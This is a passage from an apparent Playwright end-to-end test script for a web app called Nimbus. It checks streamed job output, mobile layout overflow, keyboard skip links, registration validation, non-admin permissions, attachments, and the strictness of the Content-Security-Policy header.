      .catch(() => fail("the first line never showed on its own: output is not streamed"));
    if (seenRunning !== "running") fail(`first line shown while the job was ${seenRunning}`);
    const runLog = page.getByRole("log", { name: "Output" });
    await runLog.getByText("second line").waitFor();
    await page.locator(".job-output .job-status", { hasText: "Succeeded" }).waitFor();
    const [fileDownload] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download result.txt" }).click(),
    ]);
    if ((await readDownload(fileDownload)) !== "forty-two") fail("the job's output file came back changed");
    await page.getByRole("table", { name: "Your recent runs" }).getByText("Succeeded").first().waitFor();
    await shot("23-runner");
    await page.getByRole("link", { name: "Open this run" }).click();
    await page.getByRole("log", { name: "Output" }).getByText("second line").waitFor();
    await shot("24-job");

    await nav.getByRole("link", { name: "Dashboard" }).click();
    await page.getByRole("list", { name: "This month per currency" }).getByText("€34.00").waitFor();
    await page.getByRole("region", { name: "Recent runs" }).locator(".job-status").first().waitFor();
    await shot("04-dashboard-full");

    // --- phone width: the menu collapses behind a toggle ---------------------------------------
    await page.setViewportSize({ width: 390, height: 844 });
    await page.getByRole("link", { name: "Nimbus" }).click();
    await page.getByRole("heading", { level: 1, name: /Ada/ }).waitFor();
    await shot("08-phone-dashboard");
    await page.getByRole("button", { name: "Open menu" }).click();
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Projects" }).waitFor();
    await shot("09-phone-menu");
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Projects" }).click();
    await page.getByRole("heading", { level: 1, name: "Projects" }).waitFor();
    for (const [path, heading, name] of [
      ["/expenses", "Expenses", "25-phone-expenses"],
      ["/expenses/new", "New expense", "25-phone-expense-form"],
      ["/run", "Code runner", "25-phone-runner"],
      ["/bugs/WEB-1", /Safari 17/, "25-phone-bug"],
    ]) {
      await page.goto(`${base}${path}`);
      await page.getByRole("heading", { level: 1, name: heading }).waitFor();
      // The charts are a lazy chunk: wait for them rather than for the network to go quiet.
      if (path === "/expenses") await page.locator(".spend-chart canvas").first().waitFor();
      const { overflow, culprits } = await page.evaluate(() => ({
        overflow: document.documentElement.scrollWidth - window.innerWidth,
        // The innermost elements that stick out, outside the scrolling table wrappers.
        culprits: [...document.querySelectorAll("body *")]
          .filter((el) => el.getBoundingClientRect().right > window.innerWidth + 0.5)
          .filter((el) => !el.closest(".table-responsive") && el.children.length === 0)
          .slice(0, 4)
          .map((el) => `<${el.tagName.toLowerCase()} class="${el.className}">`),
      }));
      if (overflow > 0)
        problems.push(`${path} is ${overflow}px wider than a 390px phone: ${culprits.join(", ")}`);
      await shot(name);
    }
    await page.goto(`${base}/projects`);
    // Let the page finish exchanging its refresh token before the reload below: a reload in the
    // middle of that exchange presents a spent token, and reuse detection ends the session.
    await page.getByRole("heading", { level: 1, name: "Projects" }).waitFor();
    await page.setViewportSize({ width: 1280, height: 860 });

    // --- keyboard: the skip link is the first stop and lands on the content ---------------------
    await page.reload();
    await page.getByRole("heading", { level: 1, name: "Projects" }).waitFor();
    await page.keyboard.press("Tab");
    const skip = page.getByRole("link", { name: "Skip to content" });
    if (!(await skip.evaluate((el) => el === document.activeElement)))
      fail("skip link is not first in tab order");
    await page.keyboard.press("Enter");
    if (!(await page.evaluate(() => document.activeElement?.id === "main")))
      fail("skip link did not focus main");

    // --- sign out, then registration errors from the API's 422 ----------------------------------
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    await page.getByRole("link", { name: "Create an account" }).click();
    await page.getByLabel("Full name").fill("Mallory");
    await page.getByLabel("Email").fill("not-an-email");
    await page.getByLabel("Password").fill("short");
    await page.getByRole("button", { name: "Create account" }).click();
    await page.locator(".invalid-feedback", { hasText: /email/i }).waitFor();
    await page.locator(".invalid-feedback", { hasText: /at least 8/i }).waitFor();
    await shot("10-register-errors");

    // --- unknown deep link inside the app -------------------------------------------------------
    await page.goto(`${base}/login`);
    await page.getByLabel("Email").fill(TESTER.email);
    await page.getByLabel("Password").fill(TESTER.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("heading", { level: 1, name: /Grace/ }).waitFor();
    if ((await page.getByRole("link", { name: "Users" }).count()) > 0)
      fail("a non-admin sees the Users entry");
    await page.locator(".notification-bell .badge").waitFor();
    await page.getByRole("link", { name: /Notifications/ }).click();
    await page.getByRole("heading", { level: 1, name: "Notifications" }).waitFor();
    await page.locator(".notification.unread").first().waitFor();
    await shot("15-notifications");
    await page.getByRole("button", { name: "Mark all as read" }).click();
    await page.locator(".notification.unread").first().waitFor({ state: "detached" });
    // A non-admin member attaches a file to the bug too.
    await page.goto(`${base}/bugs/WEB-1`);
    const graceFiles = page.getByRole("region", { name: /Attachments/ });
    await graceFiles.getByRole("button", { name: "Download console.log" }).waitFor();
    await graceFiles
      .getByLabel("Attach files")
      .setInputFiles({ name: "steps.txt", mimeType: "text/plain", buffer: Buffer.from("1. open\n2. pay\n") });
    await graceFiles.getByRole("button", { name: "Download steps.txt" }).waitFor();
    // Only the uploader or an admin may delete: Grace sees Delete on hers, not on Ada's.
    await graceFiles.getByRole("button", { name: "Delete steps.txt" }).waitFor();
    if ((await graceFiles.getByRole("button", { name: "Delete console.log" }).count()) > 0)
      fail("a non-admin may delete someone else's attachment");
    await page.goto(`${base}/projects/OPS`);
    await page.getByText("No project “OPS”").waitFor();
    await shot("11-project-not-member");

    // --- the security headers: the SPA's CSP on the page, the docs under their own ----------
    const index = await page.request.get(`${base}/`);
    const csp = index.headers()["content-security-policy"] ?? "";
    const directive = (name) =>
      csp
        .split(";")
        .map((d) => d.trim())
        .find((d) => d.startsWith(`${name} `));
    if (
      directive("script-src") !== "script-src 'self'" ||
      directive("style-src-attr") !== "style-src-attr 'none'"
    )
      fail(`the SPA's Content-Security-Policy is not strict: ${csp}`);
    const script = await page.locator("script[src]").first().getAttribute("src");
    if ((await page.request.get(`${base}${script}.map`)).status() !== 404)
      fail(`a source map is served for ${script}`);
    await page.goto(`${base}/docs`);
    await page.locator(".opblock").first().click();
    await page.getByRole("button", { name: "Try it out" }).first().waitFor();
    await shot("12-api-docs");

    if (problems.length) fail(`browser reported problems:\n  ${problems.join("\n  ")}`);
    log("all checks passed");
  } catch (error) {
    // The state of the page at the moment of failure says more than the stack trace.
    const pages = browser?.contexts().flatMap((c) => c.pages()) ?? [];
    for (const open of pages) {
      await open.screenshot({ path: join(shotsDir, "FAILURE.png"), fullPage: true }).catch(() => undefined);
      log(`failure screenshot: ${join(shotsDir, "FAILURE.png")} (${open.url()})`);
    }
    throw error;
  } finally {
    await browser?.close().catch(() => undefined);
    await stopServer(server.child);
    rmSync(dataDir, { recursive: true, force: true });
  }
}

run().then(
  () => process.exit(0),
  (error) => {
    console.error(`[e2e] FAILED: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`);
    process.exit(1);
  },
);
